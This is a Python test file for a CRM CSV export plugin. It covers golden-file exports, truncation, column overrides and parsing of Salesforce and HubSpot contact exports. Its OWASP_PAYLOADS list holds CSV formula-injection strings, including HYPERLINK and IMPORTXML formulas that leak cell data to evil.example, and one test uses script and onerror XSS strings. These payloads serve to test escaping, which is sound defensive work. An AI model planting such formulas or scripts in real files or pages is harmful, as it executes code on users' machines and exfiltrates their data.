"""plugins/crm_csv: profiles (golden files), injection, limits, column overrides, quirky exports."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

import crmsync
from crmsync.contract.base import Context
from crmsync.host.config import validate_options
from crmsync.store import Store
from crmsync.testing import kit_config, kit_host, kit_run, sample_interactions
from crmsync_crm_csv import ContactsSource, CsvSink, read_import_files

from .corpus_config import make_corpus
from .conftest import ROOT

GOLDEN = ROOT / "tests" / "golden" / "crm_csv"

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    "=10+20+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
]


def _deliveries(extra: list[crmsync.Interaction] = ()) -> list[crmsync.Delivery]:
    recs = sample_interactions()
    linked = crmsync.Interaction.create(
        source="kit_source", channel="email", native_id="<linked@mail.example>", kind="email",
        title="Known customer", body_text="Hello from a known contact.", published=datetime(2026, 2, 1, 9, 30, tzinfo=UTC),
        author=crmsync.Identity(name="Karla Known", emails=["karla@known.example"], crm_ids={"salesforce": "0035g00000AbCdE", "hubspot": "951", "generic": "C1"}, company="Known Ltd"),
        priority="high",
    )
    return [crmsync.Delivery(r, 1, "create") for r in [*recs, linked, *extra]]


def _write(tmp: Path, options: dict, deliveries: list[crmsync.Delivery]) -> tuple[CsvSink, Path]:
    opts = validate_options(CsvSink.config_schema, {"output_dir": "out", **options}, where="test")
    sink = CsvSink("crm", opts, Context(config_dir=tmp, run_id="golden00-run"))
    sink.open()
    sink.write(deliveries)
    receipts = sink.flush()
    sink.close()
    assert [r.interaction_id for r in receipts] == [d.interaction.interaction_id for d in deliveries]
    return sink, tmp / "out"


@pytest.mark.parametrize("profile", ["generic", "salesforce", "hubspot"])
def test_golden_files(tmp_path, profile):
    _, out = _write(tmp_path, {"profile": profile}, _deliveries())
    manifest = json.loads(next(out.glob("manifest-*.json")).read_text())
    assert manifest["profile"] == profile
    for entry in manifest["files"]:
        data = (out / entry["file"]).read_bytes()
        assert not data.startswith(b"\xef\xbb\xbf"), "no BOM"
        golden = GOLDEN / profile / f"{entry['kind']}.csv"
        if os.environ.get("UPDATE_GOLDEN"):
            golden.parent.mkdir(parents=True, exist_ok=True)
            golden.write_bytes(data)
        assert data == golden.read_bytes(), f"{entry['file']} differs from {golden} (UPDATE_GOLDEN=1 to accept)"
    assert {e["kind"] for e in manifest["files"]} == {p.name[:-4] for p in (GOLDEN / profile).glob("*.csv")}


def test_salesforce_rows_link_tasks_to_contacts_and_new_leads(tmp_path):
    _, out = _write(tmp_path, {"profile": "salesforce"}, _deliveries())
    tasks = {r["Crmsync_Id__c"]: r for r in read_import_files(out)}
    leads = {r["Crmsync_Id__c"]: r for r in read_import_files(out, kind="leads")}
    known = next(t for t in tasks.values() if t["Subject"] == "Known customer")
    assert known["WhoId"] == "0035g00000AbCdE" and known["Lead:Who.Crmsync_Id__c"] == ""
    assert known["Priority"] == "High" and known["TaskSubtype"] == "Email"
    assert known["Crmsync_Published__c"] == "2026-02-01T09:30:00Z" and known["ActivityDate"] == "2026-02-01"
    others = [t for t in tasks.values() if t is not known]
    assert all(t["Lead:Who.Crmsync_Id__c"] in leads for t in others)
    assert len(leads) == 3  # the three sample authors, once each; the known contact is not a lead
    assert all(lead["LastName"] and lead["Company"] for lead in leads.values())


def test_hubspot_notes_carry_their_contact(tmp_path):
    _, out = _write(tmp_path, {"profile": "hubspot"}, _deliveries())
    notes = read_import_files(out)
    known = next(n for n in notes if n["Email"] == "karla@known.example")
    assert known["First Name"] == "Karla" and known["Last Name"] == "Known"
    assert known["Note body"].startswith("Known customer<br><br>Hello from a known contact.")


def test_hubspot_note_bodies_are_escaped_html(tmp_path):
    # HubSpot renders note bodies as HTML: text that looks like markup must stay text
    hostile = crmsync.Interaction.create(
        source="kit_source", channel="email", native_id="<x@mail.example>", kind="email", title="<b>Hi</b> & bye",
        body_text='Line one\n<script>alert("x")</script> <img src=x onerror=alert(1)>', author=crmsync.Identity(emails=["x@mail.example"]),
    )
    _, out = _write(tmp_path, {"profile": "hubspot"}, [crmsync.Delivery(hostile, 1, "create")])
    (note,) = read_import_files(out)
    body = note["Note body"]
    assert body.startswith("&lt;b&gt;Hi&lt;/b&gt; &amp; bye<br><br>Line one<br>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;")
    assert "<script" not in body and "<img" not in body and "<b>" not in body


@pytest.mark.parametrize("mode", ["spreadsheet", "raw"])
def test_owasp_payloads(tmp_path, mode):
    payload_recs = [
        crmsync.Interaction.create(source="s", channel="feed", native_id=f"https://p.example/{n}", kind="post", title=p, body_text=p, author=crmsync.Identity(name=p, emails=[f"p{n}@example.org"]))
        for n, p in enumerate(OWASP_PAYLOADS)
    ]
    _, out = _write(tmp_path, {"mode": mode}, [crmsync.Delivery(r, 1, "create") for r in payload_recs])
    rows = [r for r in read_import_files(out) if r["url"].startswith("https://p.example/") or r["native_id"].startswith("https://p.example/")]
    assert len(rows) == len(OWASP_PAYLOADS)
    contacts = read_import_files(out, kind="contacts")
    for row in rows:
        for cell in (row["title"], row["body_text"], row["author_name"]):
            if mode == "spreadsheet":
                assert cell.startswith("'") and cell[1:] in OWASP_PAYLOADS
            else:
                assert cell in OWASP_PAYLOADS or cell.replace("\r\n", "\r") in OWASP_PAYLOADS
    names = {c["name"] for c in contacts}
    assert all(n.startswith("'") for n in names) if mode == "spreadsheet" else names <= set(OWASP_PAYLOADS) | {n.replace("\r\n", "\r") for n in names}


def test_limits_truncate_with_marker_and_report(tmp_path):
    long = crmsync.Interaction.create(source="kit", channel="feed", native_id="https://l.example/1", kind="post", title="T" * 300, body_text="B" * 40000)
    sink, out = _write(tmp_path, {"profile": "salesforce"}, [crmsync.Delivery(long, 1, "create")])
    (task,) = read_import_files(out)
    assert len(task["Subject"]) == 255 and task["Subject"].endswith("…[truncated]")
    assert len(task["Description"]) == 32000
    assert "truncated 1 value(s) of tasks.Subject to 255 characters" in sink.notes
    assert "truncated 1 value(s) of tasks.Description to 32000 characters" in sink.notes


class _LongTitles(crmsync.Source):
    name = "long_titles"
    channel = "feed"

    def read(self, state):
        yield self.interaction(native_id="https://l.example/9", kind="post", title="x" * 400)


def test_truncation_is_in_the_run_report(tmp_path):
    host = kit_host(sources=[_LongTitles], sinks=[CsvSink])
    cfg = kit_config(tmp_path, host, sources={"long": ("long_titles", {})}, sinks={"crm": ("crm_csv", {"output_dir": "out", "profile": "salesforce"})})
    report = kit_run(cfg)
    assert report.sinks[0].notes == ["truncated 1 value(s) of tasks.Subject to 255 characters"]
    assert report.as_dict()["sinks"][0]["notes"] == report.sinks[0].notes


def test_embedded_newlines_and_crlf(tmp_path):
    _, out = _write(tmp_path, {}, _deliveries())
    data = next(out.glob("interactions-*.csv")).read_bytes()
    assert b"\r\n" in data
    rows = read_import_files(out)
    assert any("\n" in r["body_text"] for r in rows), "embedded newlines are kept inside quoted cells"


def test_column_overrides(tmp_path):
    _, out = _write(tmp_path, {"profile": "salesforce", "columns": {"tasks": {"Type": "literal:Social", "Crmsync_Lang__c": "language", "Crmsync_Kind__c": ""}}}, _deliveries())
    (task, *_) = read_import_files(out)
    assert task["Type"] == "Social" and "Crmsync_Lang__c" in task and "Crmsync_Kind__c" not in task
    with pytest.raises(crmsync.ConfigError, match="unknown field 'nope'.*valid fields: .*author_email"):
        _write(tmp_path / "b", {"columns": {"interactions": {"X": "nope"}}}, [])
    with pytest.raises(crmsync.ConfigError, match="no file kind 'tasks'; valid kinds: contacts, interactions"):
        _write(tmp_path / "c", {"columns": {"tasks": {"X": "title"}}}, [])
    with pytest.raises(crmsync.ConfigError, match="cannot be dropped"):
        _write(tmp_path / "d", {"profile": "hubspot", "columns": {"notes": {"crmsync ID": ""}}}, [])


def test_new_authors_skip(tmp_path):
    _, out = _write(tmp_path, {"profile": "salesforce", "new_authors": "skip"}, _deliveries())
    assert read_import_files(out, kind="leads") == []
    assert all(t["Lead:Who.Crmsync_Id__c"] == "" for t in read_import_files(out))


# contacts source -------------------------------------------------------------
def _contacts(tmp: Path, data: bytes, **options) -> tuple[list, list]:
    (tmp / "export.csv").write_bytes(data)
    opts = validate_options(ContactsSource.config_schema, {"file": "export.csv", **options}, where="test")
    items = list(ContactsSource("crm", opts, Context(config_dir=tmp)).read(None))
    return [i for i in items if isinstance(i, crmsync.Identity)], [i for i in items if isinstance(i, crmsync.Rejected)]


SF_EXPORT = 'Id,FirstName,LastName,Email,Account.Name,Twitter__c\r\n003A1,Ann,Lee,ann@lee.example,"Lee, Inc.",@annlee\r\n003A2,Bo,"Ng\r\nJr",bo@ng.example,,\r\n'


def test_salesforce_export_detected(tmp_path):
    people, bad = _contacts(tmp_path, SF_EXPORT.encode())
    assert not bad and [p.crm_ids for p in people] == [{"salesforce": "003A1"}, {"salesforce": "003A2"}]
    assert people[0].company == "Lee, Inc." and people[0].handles == ["twitter:annlee"]
    assert people[1].name == "Bo Ng\r\nJr"  # quoted newline kept inside the field


def test_dataloader_uppercase_headers_and_bom(tmp_path):
    data = "\ufeffID,FIRSTNAME,LASTNAME,EMAIL\n003B1,Çé,Ünal,c@u.example\n".encode()
    people, _ = _contacts(tmp_path, data, format="salesforce")
    assert people[0].name == "Çé Ünal" and people[0].emails == ["c@u.example"]


def test_hubspot_utf16_tab_export(tmp_path):
    text = "Record ID\tFirst Name\tLast Name\tEmail\tCompany Name\tTwitter Username\n951\tZoë\tÅng\tzoe@ang.example\tÅng AB\tzoe\n"
    people, _ = _contacts(tmp_path, text.encode("utf-16"))
    assert people[0].crm_ids == {"hubspot": "951"} and people[0].name == "Zoë Ång" and people[0].handles == ["twitter:zoe"]


def test_excel_sep_line_cp1252_and_duplicate_headers(tmp_path):
    text = "sep=;\ncontact_id;email;email;first_name;last_name\nC9;first@x.example;second@x.example;Ren\xe9;M\xfcller\n"
    people, _ = _contacts(tmp_path, text.encode("cp1252"))
    assert people[0].emails == ["first@x.example"] and people[0].name == "René Müller"


def test_broken_rows_are_quarantined(tmp_path):
    people, bad = _contacts(tmp_path, b"contact_id,email\nC1,a@x.example\n,b@x.example\nC3,c@x.example,extra\n")
    assert len(people) == 1 and [r.ref.rsplit(":", 1)[1] for r in bad] == ["3", "4"]


def test_removed_contacts_are_marked_not_deleted(tmp_path):
    host = kit_host(sources=[ContactsSource])
    (tmp_path / "c.csv").write_text("contact_id,email,first_name\nC1,a@x.example,Ann\nC2,b@x.example,Bo\n")
    cfg = kit_config(tmp_path, host, sources={"crm": ("crm_csv", {"file": "c.csv"})})
    kit_run(cfg)
    (tmp_path / "c.csv").write_text("contact_id,email,first_name\nC1,a@x.example,Ann\n")
    kit_run(cfg)
    store = Store(cfg.store_url)
    try:
        people = {p.crm_ids["generic"]: p for p in store.identities.all()}
    finally:
        store.dispose()
    assert set(people) == {"C1", "C2"} and people["C2"].removed and people["C2"].name == "Bo" and not people["C1"].removed
    (tmp_path / "c.csv").write_text("contact_id,email,first_name\nC1,a@x.example,Ann\nC2,b@x.example,Bo\n")
    kit_run(cfg)
    store = Store(cfg.store_url)
    try:
        assert not {p.crm_ids["generic"]: p for p in store.identities.all()}["C2"].removed
    finally:
        store.dispose()


def test_bench_corpus_contacts_load(tmp_path):
    path = make_corpus(tmp_path / "c", 2000, 3) / "crm" / "contacts.csv"
    expected = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    people, bad = _contacts(tmp_path, path.read_bytes())
    assert not bad and len(people) == len(expected)
    assert {p.crm_ids["generic"] for p in people} == {r["contact_id"] for r in expected}
    with_twitter = [p for p, r in zip(people, expected, strict=True) if r["twitter"]]
    assert all(p.handles and p.handles[0].startswith("twitter:") for p in with_twitter)


def test_hubspot_notes_use_the_matched_crm_contact_not_the_raw_address(tmp_path):
    # identity linked Jane's +tag address to HubSpot contact 51; the note must name contact 51
    jane_raw = crmsync.Identity(identity_id="contact-51", name="jane", emails=["Jane.Doe+orders@gmail.com"], crm_ids={"hubspot": "51"})
    jane_crm = crmsync.Identity(identity_id="contact-51", name="Jane Doe", emails=["jane.doe@gmail.com", "Jane.Doe+orders@gmail.com"], crm_ids={"hubspot": "51"}, company="Doe Bakery")
    linked = crmsync.Interaction.create(source="s", channel="email", native_id="<j@x>", kind="email", title="Order", body_text="Where is it?", author=jane_raw)
    anonymous = crmsync.Interaction.create(source="s", channel="feed", native_id="https://blog.example/c/1", kind="comment", title="Nice", author=crmsync.Identity(name="Guest"))
    reply = crmsync.Interaction.create(
        source="s", channel="review", native_id="R1#reply", scope="shop", kind="reply", title="Thanks!", author=crmsync.Identity(name="shop business reply", kind="organization"), extra={"business_reply": True}
    )
    sink, out = _write(tmp_path, {"profile": "hubspot"}, [crmsync.Delivery(linked, 1, "create", author_profile=jane_crm), crmsync.Delivery(anonymous, 1, "create"), crmsync.Delivery(reply, 1, "create")])
    rows = {r["crmsync ID"]: r for r in read_import_files(out)}
    jane = rows[linked.interaction_id]
    assert (jane["Record ID"], jane["Email"], jane["First Name"], jane["Last Name"], jane["Company Name"]) == ("51", "jane.doe@gmail.com", "Jane", "Doe", "Doe Bakery")
    for iid in (anonymous.interaction_id, reply.interaction_id):  # no empty contacts
        assert [rows[iid][c] for c in ("Record ID", "Email", "First Name", "Last Name", "Company Name")] == ["", "", "", "", ""]
    assert any("2 note(s) have no contact" in n for n in sink.notes)


@pytest.mark.parametrize("bom", [False, True])
def test_a_byte_order_mark_only_when_asked(tmp_path, bom):
    rec = crmsync.Interaction.create(source="s", channel="feed", native_id="https://b.example/1", kind="post", title="Łódź ✓", author=crmsync.Identity(name="Zoë", emails=["z@example.org"]))
    _, out = _write(tmp_path, {"bom": bom}, [crmsync.Delivery(rec, 1, "create")])
    files = sorted(out.glob("*.csv"))
    assert files and all(f.read_bytes().startswith(b"\xef\xbb\xbf") == bom for f in files)
    (row,) = read_import_files(out)
    assert row["title"] == "Łódź ✓" and "interaction_id" in row
